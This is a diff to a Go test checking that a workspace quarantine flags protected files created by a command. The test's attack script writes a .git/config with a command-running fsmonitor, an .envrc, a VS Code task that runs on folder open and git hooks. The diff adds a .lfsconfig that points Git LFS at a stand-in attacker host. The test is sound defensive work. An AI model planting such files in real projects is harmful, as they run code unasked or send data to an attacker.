@@ -20,6 +20,7 @@ func TestQuarantineCreatedProtectedNames(t *testing.T) {
 	before := listTree(t, ws)
 	attacks := `mkdir .git && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config
 echo 'touch /tmp/pwned' > .envrc
+printf '[lfs]\n\turl = https://evil.example.com/lfs\n' > .lfsconfig
 mkdir .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
 mkdir -p sub/.git/hooks && echo x > sub/.git/hooks/x
 mkdir -p src/.git && echo x > src/.git/config
@@ -49,7 +50,7 @@ mkdir -p src/.git && echo x > src/.git/config
 		}
 	}
 	slices.Sort(shown)
-	if wantShown := []string{".envrc", ".git", ".vscode", "src/.git", "sub/.git"}; !slices.Equal(shown, wantShown) {
+	if wantShown := []string{".envrc", ".git", ".lfsconfig", ".vscode", "src/.git", "sub/.git"}; !slices.Equal(shown, wantShown) {
 		t.Errorf("reported %v, want %v", shown, wantShown)
 	}
 	for _, r := range res.Removed {
